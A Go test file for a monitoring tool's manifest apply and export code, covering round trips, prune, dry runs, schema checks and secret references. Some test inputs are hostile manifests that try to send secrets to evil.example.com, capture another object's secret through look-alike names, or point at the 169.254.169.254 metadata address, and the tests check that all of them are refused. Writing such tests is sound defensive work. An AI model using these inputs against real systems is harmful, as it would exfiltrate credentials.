package manifest_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"maps"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"

	"github.com/watchdog-monitor/watchdog/backend/internal/manifest"
	"github.com/watchdog-monitor/watchdog/backend/internal/netguard"
	"github.com/watchdog-monitor/watchdog/backend/internal/notify"
	"github.com/watchdog-monitor/watchdog/backend/internal/store"
	"github.com/watchdog-monitor/watchdog/backend/internal/store/storetest"
	"github.com/watchdog-monitor/watchdog/backend/internal/target"
)

const example = "../../../docs/examples/watchdog.yaml"

func opts(env map[string]string) manifest.ApplyOptions {
	return manifest.ApplyOptions{
		Env:    func(k string) string { return env[k] },
		Limits: target.Limits{MinIntervalSeconds: 30, CheckURL: netguard.New(false).CheckURL},
		Notify: notify.Env{CheckURL: netguard.New(false).CheckURL},
	}
}

func parse(t *testing.T, doc string) manifest.Parsed {
	t.Helper()
	p, err := manifest.Parse(strings.NewReader(doc))
	require.NoError(t, err)
	return p
}

func apply(t *testing.T, s *store.Store, doc string, o manifest.ApplyOptions) manifest.Report {
	t.Helper()
	r, err := parse(t, doc).Apply(context.Background(), s, o)
	require.NoError(t, err)
	return r
}

func actions(r manifest.Report) map[string]string {
	out := map[string]string{}
	for _, it := range r.Items {
		out[it.Kind+" "+it.Name] = it.Action
	}
	return out
}

// full exercises every kind of object and field, secrets included.
const full = `version: 1
channels:
  - name: ops
    type: webhook
    is_default: true
    config:
      url: https://hooks.example.com/watchdog
      secret: ${WATCHDOG_CHANNEL_OPS_SECRET}
      headers:
        X-Api-Key: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}
  - name: pager
    type: pagerduty
    config:
      routing_key: ${WATCHDOG_CHANNEL_PAGER_ROUTING_KEY}
targets:
  - name: shop-api
    url: https://shop.example.com/health
    method: POST
    headers:
      Authorization: ${WATCHDOG_TARGET_SHOP_API_AUTHORIZATION}
      Accept: application/json
    interval_seconds: 60
    timeout_seconds: 5
    expected_status: "200,204"
    retries: 1
    tags: [prod, shop]
    failure_threshold: 2
    conditions:
      - {type: json, path: $.status, op: "==", value: ok}
    channels: [ops, pager]
  - name: docs
    url: https://docs.example.com/
    paused: true
  - name: render-app
    url: https://app.example.net/
    platform: render-free
    warm_windows:
      - {days: [mon, fri], start: "08:00", end: "20:00"}
    timezone: Europe/Berlin
    budget_group: render
status_pages:
  - slug: acme
    title: Acme status
    description: Public services
    targets: [shop-api, docs]
`

var secrets = map[string]string{
	"WATCHDOG_CHANNEL_OPS_SECRET":            "s3cr3t-webhook",
	"WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY": "key-123",
	"WATCHDOG_CHANNEL_PAGER_ROUTING_KEY":     "R0UT1NGKEY0123456789012345678901",
	"WATCHDOG_TARGET_SHOP_API_AUTHORIZATION": "Bearer tok-xyz",
}

func TestRoundTrip(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		first := apply(t, s, full, opts(secrets))
		assert.Equal(t, map[string]string{
			"channel ops": "created", "channel pager": "created",
			"target shop-api": "created", "target docs": "created", "target render-app": "created",
			"status_page acme": "created",
		}, actions(first))
		assert.False(t, apply(t, s, full, opts(secrets)).Changed(), "a second apply changes nothing")

		// Export writes references, never the secrets, and names their variables.
		doc, names, err := manifest.Export(ctx, s)
		require.NoError(t, err)
		out, err := manifest.Marshal(doc, names)
		require.NoError(t, err)
		for _, v := range secrets {
			assert.NotContains(t, string(out), v, "a secret in the export")
		}
		assert.Contains(t, string(out), "${WATCHDOG_CHANNEL_OPS_SECRET}")
		assert.Contains(t, string(out), "${WATCHDOG_TARGET_SHOP_API_AUTHORIZATION}")
		assert.Contains(t, string(out), "Accept: application/json", "harmless headers stay readable")

		// Applying the export, with its variables set, is a no-op.
		env := maps.Clone(secrets)
		for _, n := range names {
			assert.Contains(t, env, n, "export names %s", n)
		}
		again := apply(t, s, string(out), opts(env))
		assert.False(t, again.Changed(), "apply → export → apply is a no-op:\n%s", again)
		assert.Len(t, again.Items, 6)

		// A changed secret is an update.
		changed := map[string]string{}
		for k, v := range env {
			changed[k] = v
		}
		changed["WATCHDOG_CHANNEL_OPS_SECRET"] = "rotated"
		assert.Equal(t, "updated", actions(apply(t, s, string(out), opts(changed)))["channel ops"])
	})
}

func TestDryRunAndPrune(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		dry := opts(secrets)
		dry.DryRun = true
		r := apply(t, s, full, dry)
		assert.True(t, r.DryRun)
		assert.Equal(t, "created", actions(r)["target shop-api"], "a dry run reports what it would do")
		all, err := s.AllTargets(ctx)
		require.NoError(t, err)
		assert.Empty(t, all, "and changes nothing")

		apply(t, s, full, opts(secrets))
		// Without prune, objects missing from the file stay; with it, only they go.
		smaller := strings.Replace(full, "  - name: docs\n    url: https://docs.example.com/\n    paused: true\n", "", 1)
		smaller = strings.Replace(smaller, "targets: [shop-api, docs]", "targets: [shop-api]", 1)
		smaller = strings.Replace(smaller, "  - name: pager\n    type: pagerduty\n    config:\n      routing_key: ${WATCHDOG_CHANNEL_PAGER_ROUTING_KEY}\n", "", 1)
		smaller = strings.Replace(smaller, "channels: [ops, pager]", "channels: [ops]", 1)
		r = apply(t, s, smaller, opts(secrets))
		assert.NotContains(t, actions(r), "target docs")
		assert.Equal(t, "updated", actions(r)["target shop-api"], "one channel fewer")
		assert.Equal(t, "updated", actions(r)["status_page acme"], "one target fewer")
		all, err = s.AllTargets(ctx)
		require.NoError(t, err)
		assert.Len(t, all, 3, "no prune, nothing deleted")

		prune := opts(secrets)
		prune.Prune, prune.DryRun = true, true
		r = apply(t, s, smaller, prune)
		assert.Equal(t, "deleted", actions(r)["target docs"])
		all, err = s.AllTargets(ctx)
		require.NoError(t, err)
		assert.Len(t, all, 3, "a dry prune deletes nothing")

		prune.DryRun = false
		r = apply(t, s, smaller, prune)
		assert.Equal(t, map[string]string{
			"channel ops": "unchanged", "channel pager": "deleted",
			"target shop-api": "unchanged", "target docs": "deleted", "target render-app": "unchanged",
			"status_page acme": "unchanged",
		}, actions(r))
		all, err = s.AllTargets(ctx)
		require.NoError(t, err)
		assert.Len(t, all, 2)
		assert.False(t, apply(t, s, smaller, prune).Changed())
	})
}

func TestErrorsChangeNothing(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		apply(t, s, full, opts(secrets))
		before, _, err := manifest.Export(ctx, s)
		require.NoError(t, err)

		// The file is good up to its last target, whose interval breaks a rule: the
		// channels and targets before it, which would change, stay as they were.
		broken := strings.Replace(full, "interval_seconds: 60", "interval_seconds: 120", 1) +
			"" // (status page below stays valid)
		broken = strings.Replace(broken, "    budget_group: render\n", "    budget_group: render\n    interval_seconds: 5\n", 1)
		_, err = parse(t, broken).Apply(ctx, s, opts(secrets))
		var le *manifest.LineError
		require.True(t, errors.As(err, &le), "%v", err)
		assert.Equal(t, "targets[2].interval_seconds", le.Path)
		assert.Equal(t, lineOf(broken, "interval_seconds: 5"), le.Line, "%v", err)
		after, _, err := manifest.Export(ctx, s)
		require.NoError(t, err)
		assert.Equal(t, before, after, "one transaction: nothing changed")

		for _, tc := range []struct{ name, doc, path, line string }{
			{"unknown field", strings.Replace(full, "    paused: true", "    paused: true\n    colour: red", 1), "targets[1].colour", "colour: red"},
			{"unset secret", full, "channels[0].config.headers.X-Api-Key", "X-Api-Key: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}"},
			{"unknown channel", strings.Replace(full, "channels: [ops, pager]", "channels: [ops, nope]", 1), "targets[0].channels[1]", "channels: [ops, nope]"},
			{"unknown target on a page", strings.Replace(full, "targets: [shop-api, docs]", "targets: [shop-api, gone]", 1), "status_pages[0].targets[1]", "targets: [shop-api, gone]"},
			{"a name twice", strings.Replace(full, "name: docs", "name: shop-api", 1), "targets[1].name", "name: shop-api\n    url: https://docs"},
			{"bad channel config", strings.Replace(full, "url: https://hooks.example.com/watchdog", "url: http://169.254.169.254/", 1), "channels[0].config.url", "url: http://169.254.169.254/"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				env := secrets
				if tc.name == "unset secret" {
					env = map[string]string{}
				}
				p, err := manifest.Parse(strings.NewReader(tc.doc))
				if err == nil {
					_, err = p.Apply(ctx, s, opts(env))
				}
				le := errorAt(t, err, tc.path)
				assert.Equal(t, lineOf(tc.doc, tc.line), le.Line, "%v", err)
				after, _, err := manifest.Export(ctx, s)
				require.NoError(t, err)
				assert.Equal(t, before, after)
			})
		}
	})
}

// errorAt finds the error of the document at path among all err holds.
func errorAt(t *testing.T, err error, path string) *manifest.LineError {
	t.Helper()
	require.Error(t, err)
	for _, le := range manifest.List(err) {
		if le.Path == path {
			return le
		}
	}
	require.Failf(t, "no error at "+path, "%v", err)
	return nil
}

// lineOf is the 1-based line where text starts in doc.
func lineOf(doc, text string) int {
	i := strings.Index(doc, text)
	if i < 0 {
		return -1
	}
	return strings.Count(doc[:i], "\n") + 1
}

// TestExampleAndSchema: the README's example applies as it is, twice, and it and an
// export validate against the published JSON Schema.
func TestExampleAndSchema(t *testing.T) {
	raw, err := os.ReadFile(example)
	require.NoError(t, err)
	s := storetest.SQLite(t)
	r := apply(t, s, string(raw), opts(nil))
	assert.Len(t, r.Items, 5)
	assert.False(t, apply(t, s, string(raw), opts(nil)).Changed())

	c := jsonschema.NewCompiler()
	schema, err := c.Compile("../../../docs/watchdog.schema.json")
	require.NoError(t, err)
	valid := func(doc []byte) error {
		var v any
		require.NoError(t, yaml.Unmarshal(doc, &v))
		j, err := json.Marshal(v)
		require.NoError(t, err)
		inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(j))
		require.NoError(t, err)
		return schema.Validate(inst)
	}
	assert.NoError(t, valid(raw))
	doc, names, err := manifest.Export(context.Background(), s)
	require.NoError(t, err)
	out, err := manifest.Marshal(doc, names)
	require.NoError(t, err)
	assert.NoError(t, valid(out))
	assert.Error(t, valid([]byte("version: 1\ntargets:\n  - name: x\n    colour: red\n")), "the schema is strict too")
}

// TestReviewFixes: behaviour a review asked for.
func TestReviewFixes(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()

		// One document per file: a second after --- is refused, not ignored.
		_, err := manifest.Parse(strings.NewReader("version: 1\ntargets: []\n---\nversion: 1\n"))
		var le *manifest.LineError
		require.True(t, errors.As(err, &le), "%v", err)
		assert.Equal(t, 3, le.Line, "the --- that starts it")

		// A literal ${ is written $${ and stays text; a malformed ${ is an error.
		r := apply(t, s, "version: 1\ntargets:\n  - name: lit\n    url: https://example.com/?q=$${HOME}\n", opts(nil))
		assert.Equal(t, "created", actions(r)["target lit"])
		all, err := s.AllTargets(ctx)
		require.NoError(t, err)
		require.Len(t, all, 1)
		assert.Equal(t, "https://example.com/?q=${HOME}", all[0].URL)
		doc, names, err := manifest.Export(ctx, s)
		require.NoError(t, err)
		out, err := manifest.Marshal(doc, names)
		require.NoError(t, err)
		assert.False(t, apply(t, s, string(out), opts(nil)).Changed(), "the literal survives export and apply")
		_, err = parse(t, "version: 1\ntargets:\n  - name: bad\n    url: https://example.com/?q=${ HOME }\n").Apply(ctx, s, opts(nil))
		require.True(t, errors.As(err, &le), "%v", err)
		assert.Equal(t, "targets[0].url", le.Path)

		// A prefix limits what may be read (the HTTP apply reads WATCHDOG_* only). A
		// reference in a URL is refused whatever its name (it would be readable by
		// every viewer); in its own credential header it is read.
		limited := opts(map[string]string{"JWT_SECRET": "leak", "WATCHDOG_TARGET_OK_AUTHORIZATION": "fine"})
		limited.EnvPrefix = "WATCHDOG_"
		_, err = parse(t, "version: 1\ntargets:\n  - name: leak\n    url: https://example.com/?k=${JWT_SECRET}\n").Apply(ctx, s, limited)
		assert.ErrorContains(t, err, "${JWT_SECRET} cannot be read here")
		assert.NotContains(t, err.Error(), "leak\"")
		r = apply(t, s, "version: 1\ntargets:\n  - name: ok\n    url: https://example.com/\n    headers: {Authorization: '${WATCHDOG_TARGET_OK_AUTHORIZATION}'}\n", limited)
		assert.Equal(t, "created", actions(r)["target ok"])

		// With prune, a reference to an object the document leaves out is an error,
		// not a deletion that breaks the link.
		apply(t, s, "version: 1\nchannels:\n  - name: ops\n    type: ntfy\n    config: {topic: t}\n", opts(nil))
		prune := opts(nil)
		prune.Prune = true
		_, err = parse(t, "version: 1\ntargets:\n  - name: a\n    url: https://example.com/\n    channels: [ops]\n").Apply(ctx, s, prune)
		require.True(t, errors.As(err, &le), "%v", err)
		assert.Equal(t, "targets[0].channels[0]", le.Path)
		assert.Contains(t, le.Msg, "--prune")

		// Keep-existing (imports) leaves a differing object of the same name alone.
		keep := opts(nil)
		keep.KeepExisting = true
		r = apply(t, s, "version: 1\ntargets:\n  - name: lit\n    url: https://other.example.com/\n", keep)
		assert.Equal(t, "kept", actions(r)["target lit"])
		assert.False(t, r.Changed())
		got, err := s.AllTargets(ctx)
		require.NoError(t, err)
		for _, tg := range got {
			if tg.Name == "lit" {
				assert.Equal(t, "https://example.com/?q=${HOME}", tg.URL, "not overwritten")
			}
		}
	})
}

func TestExportNamesEachSecretOnce(t *testing.T) {
	s := storetest.SQLite(t)
	// Literal secrets: a reference to a variable two objects' names share is refused
	// (TestReferencesOfLookAlikeNames), but export must still name each secret once.
	doc := "version: 1\nchannels:\n" +
		"  - {name: Ops, type: webhook, config: {url: 'https://a.example.com/', secret: 'first'}}\n" +
		"  - {name: ops, type: webhook, config: {url: 'https://b.example.com/', secret: 'second'}}\n"
	apply(t, s, doc, opts(nil))
	_, names, err := manifest.Export(context.Background(), s)
	require.NoError(t, err)
	assert.ElementsMatch(t, []string{"WATCHDOG_CHANNEL_OPS_SECRET", "WATCHDOG_CHANNEL_OPS_SECRET_2"}, names)
}

// TestConcurrentApplies: two applies of one document at once (two replicas, or CI and
// a person) create each object once.
func TestConcurrentApplies(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		var b strings.Builder
		b.WriteString("version: 1\ntargets:\n")
		for i := range 20 {
			b.WriteString("  - name: t" + string(rune('a'+i)) + "\n    url: https://example.com/\n")
		}
		doc := b.String()
		errs := make(chan error, 2)
		for range 2 {
			go func() {
				p, err := manifest.Parse(strings.NewReader(doc))
				if err == nil {
					_, err = p.Apply(context.Background(), s, opts(nil))
				}
				errs <- err
			}()
		}
		for range 2 {
			require.NoError(t, <-errs)
		}
		all, err := s.AllTargets(context.Background())
		require.NoError(t, err)
		assert.Len(t, all, 20)
	})
}

// A 0 in the document is validated, not taken as "left out"; names match in any case,
// as the database keeps them unique in any case.
func TestExplicitZeroAndNamesInAnyCase(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		for _, field := range []string{"interval_seconds", "timeout_seconds", "failure_threshold", "success_threshold",
			"retry_delay_seconds", "wake_timeout_seconds"} {
			t.Run(field+" 0", func(t *testing.T) {
				doc := "version: 1\ntargets:\n  - name: a\n    url: https://a.example.com/\n    " + field + ": 0\n"
				_, err := parse(t, doc).Apply(ctx, s, opts(nil))
				le := errorAt(t, err, "targets[0]."+field)
				assert.Equal(t, 5, le.Line, "%v", err)
			})
		}

		doc := "version: 1\ntargets:\n  - name: Shop\n    url: https://shop.example.com/\n  - name: shop\n    url: https://shop.example.org/\n"
		_, err := parse(t, doc).Apply(ctx, s, opts(nil))
		var le *manifest.LineError
		require.True(t, errors.As(err, &le), "%v", err)
		assert.Equal(t, "targets[1].name", le.Path, "two names that differ only in case")

		apply(t, s, "version: 1\ntargets:\n  - name: shop\n    url: https://shop.example.com/\n", opts(nil))
		r := apply(t, s, "version: 1\ntargets:\n  - name: SHOP\n    url: https://shop.example.com/\n", opts(nil))
		assert.Equal(t, map[string]string{"target SHOP": manifest.Updated}, actions(r), "matched in any case and renamed")
		all, err := s.AllTargets(ctx)
		require.NoError(t, err)
		require.Len(t, all, 1)
		assert.Equal(t, "SHOP", all[0].Name)
	})
}

// TestReferencesFillOnlyTheirSecretField: a ${…} reference reads a secret only into
// the field export wrote it for. Anywhere else (a URL, a name, a plain header, a
// condition, another object's secret) it would let whoever writes the document read
// the variable back or send it to a server of their choosing.
func TestReferencesFillOnlyTheirSecretField(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		env := map[string]string{
			"WATCHDOG_CHANNEL_OPS_SECRET":            "ops-secret",
			"WATCHDOG_CHANNEL_OPS_SECRET_2":          "ops-secret-2",
			"WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY": "ops-key",
			"WATCHDOG_TARGET_SHOP_AUTHORIZATION":     "Bearer shop",
		}
		ops := "version: 1\nchannels:\n  - name: ops\n    type: webhook\n    config:\n" +
			"      url: https://hooks.example.com/\n"
		for _, tc := range []struct{ name, doc, path, line string }{
			{"in a target's url", "version: 1\ntargets:\n  - name: shop\n    url: https://evil.example.com/?k=${WATCHDOG_CHANNEL_OPS_SECRET}\n",
				"targets[0].url", "url: https://evil"},
			{"in a plain header", "version: 1\ntargets:\n  - name: shop\n    url: https://shop.example.com/\n    headers:\n      Accept: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
				"targets[0].headers.Accept", "Accept:"},
			{"another object's variable in a credential header", "version: 1\ntargets:\n  - name: shop\n    url: https://evil.example.com/\n    headers:\n      Authorization: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
				"targets[0].headers.Authorization", "Authorization:"},
			{"part of a credential header", "version: 1\ntargets:\n  - name: shop\n    url: https://shop.example.com/\n    headers:\n      Authorization: Bearer ${WATCHDOG_TARGET_SHOP_AUTHORIZATION}\n",
				"targets[0].headers.Authorization", "Authorization:"},
			{"in a channel's plain setting", ops + "      secret: ${WATCHDOG_CHANNEL_OPS_SECRET}\n  - name: evil\n    type: ntfy\n    config:\n      topic: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
				"channels[1].config.topic", "topic:"},
			{"another channel's secret", "version: 1\nchannels:\n  - name: evil\n    type: webhook\n    config:\n      url: https://evil.example.com/\n      headers:\n        X-Leak: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}\n",
				"channels[0].config.headers.X-Leak", "X-Leak:"},
			{"a secret key of another name", ops + "      headers:\n        X-Api-Key: ${WATCHDOG_CHANNEL_OPS_SECRET}\n",
				"channels[0].config.headers.X-Api-Key", "X-Api-Key:"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				_, err := parse(t, tc.doc).Apply(ctx, s, opts(env))
				var le *manifest.LineError
				require.True(t, errors.As(err, &le), "%v", err)
				assert.Equal(t, tc.path, le.Path, "%v", err)
				assert.Equal(t, lineOf(tc.doc, tc.line), le.Line, "%v", err)
				assert.NotContains(t, err.Error(), "ops-", "the error does not carry a value")
				all, err := s.AllTargets(ctx)
				require.NoError(t, err)
				assert.Empty(t, all, "nothing applied")
			})
		}

		// In its own field a reference works; so does the _2 export adds when two
		// objects' names make one variable, and a $${ literal anywhere.
		doc := ops + "      secret: ${WATCHDOG_CHANNEL_OPS_SECRET_2}\n      headers:\n        X-Api-Key: ${WATCHDOG_CHANNEL_OPS_HEADERS_X_API_KEY}\n" +
			"targets:\n  - name: shop\n    url: https://shop.example.com/?q=$${HOME}\n    headers:\n" +
			"      Authorization: ${WATCHDOG_TARGET_SHOP_AUTHORIZATION}\n      Accept: $${x}\n"
		r := apply(t, s, doc, opts(env))
		assert.Equal(t, "created", actions(r)["target shop"])
		all, err := s.AllTargets(ctx)
		require.NoError(t, err)
		require.Len(t, all, 1)
		assert.Equal(t, "Bearer shop", all[0].Headers["Authorization"])
		assert.Equal(t, "${x}", all[0].Headers["Accept"])
		assert.Equal(t, "https://shop.example.com/?q=${HOME}", all[0].URL)
	})
}

// TestChannelRulesAreTheAPIs: apply checks a channel with the same rules as the API
// (notify.Channel.Validate): a long name with a BEL in it is refused, naming its line.
func TestChannelRulesAreTheAPIs(t *testing.T) {
	s := storetest.SQLite(t)
	long := strings.Repeat("n", 300) + "\a" + "oops"
	for _, tc := range []struct{ name, value, msg string }{
		{"305 characters with a BEL", long, "at most 100 characters"},
		{"a BEL", "ops\a", "control characters"},
		{"a bidi override", "\u202eops", "U+202E"},
		{"zero-width spaces only", "\u200b\u200b", "U+200B"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			doc := "version: 1\nchannels:\n  - type: ntfy\n    name: " + strconv.Quote(tc.value) + "\n    config: {topic: t}\n"
			_, err := parse(t, doc).Apply(context.Background(), s, opts(nil))
			var le *manifest.LineError
			require.True(t, errors.As(err, &le), "%v", err)
			assert.Equal(t, "channels[0].name", le.Path)
			assert.Equal(t, 4, le.Line)
			assert.Contains(t, le.Msg, tc.msg)
			channels, err := s.ListChannels(context.Background())
			require.NoError(t, err)
			assert.Empty(t, channels)
		})
	}
}

// TestReferencesOfLookAlikeNames: EnvName folds "-", "." and the separator between an
// object's name and its field into one "_", so another object can be named (or given a
// header) to make the variable of a secret that is not its own. Such a reference is
// refused; the owner's own reference still reads its secret.
func TestReferencesOfLookAlikeNames(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		env := map[string]string{
			"WATCHDOG_TARGET_PROD_API_AUTHORIZATION": "Bearer prod",
			"WATCHDOG_CHANNEL_OPS_HEADERS_SECRET":    "ops-headers-secret",
		}
		owner := "version: 1\nchannels:\n  - name: ops-headers\n    type: webhook\n    config:\n      url: https://hooks.example.com/\n" +
			"      secret: ${WATCHDOG_CHANNEL_OPS_HEADERS_SECRET}\n" +
			"targets:\n  - name: prod-api\n    url: https://prod.example.com/\n    headers:\n      Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n"
		apply(t, s, owner, opts(env))
		for _, tc := range []struct{ name, doc, path string }{
			{"a shorter name and a longer header", "version: 1\ntargets:\n  - name: prod\n    url: https://evil.example.com/\n    headers:\n      Api-Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n",
				"targets[0].headers.Api-Authorization"},
			{"a name with a dot for the dash", "version: 1\ntargets:\n  - name: prod.api\n    url: https://evil.example.com/\n    headers:\n      Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n",
				"targets[0].headers.Authorization"},
			{"a channel named so", "version: 1\nchannels:\n  - name: ops\n    type: webhook\n    config:\n      url: https://evil.example.com/\n      headers:\n        Secret: ${WATCHDOG_CHANNEL_OPS_HEADERS_SECRET}\n",
				"channels[0].config.headers.Secret"},
			{"both in one document", owner + "  - name: prod\n    url: https://evil.example.com/\n    headers:\n      Api-Authorization: ${WATCHDOG_TARGET_PROD_API_AUTHORIZATION}\n",
				"targets[0].headers.Authorization"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				_, err := parse(t, tc.doc).Apply(ctx, s, opts(env))
				var le *manifest.LineError
				require.True(t, errors.As(err, &le), "%v", err)
				assert.Equal(t, tc.path, le.Path, "%v", err)
				assert.Contains(t, le.Msg, "rename one of them")
				assert.NotContains(t, err.Error(), "Bearer prod")
				assert.NotContains(t, err.Error(), "ops-headers-secret")
			})
		}
		all, err := s.AllTargets(ctx)
		require.NoError(t, err)
		require.Len(t, all, 1, "nothing applied")
		assert.Equal(t, "Bearer prod", all[0].Headers["Authorization"], "the owner's reference still reads its secret")
		r := apply(t, s, owner, opts(env))
		assert.Equal(t, manifest.Unchanged, actions(r)["target prod-api"])
	})
}

// TestPageTargetsInAnyCase: a page names its targets as the document names targets,
// in any case, including a stored target the document does not list.
func TestPageTargetsInAnyCase(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		apply(t, s, "version: 1\ntargets:\n  - name: api\n    url: https://api.example.com/\n", opts(nil))
		r := apply(t, s, "version: 1\nstatus_pages:\n  - slug: status\n    title: Status\n    targets: [Api]\n", opts(nil))
		assert.Equal(t, manifest.Created, actions(r)["status_page status"])
	})
}
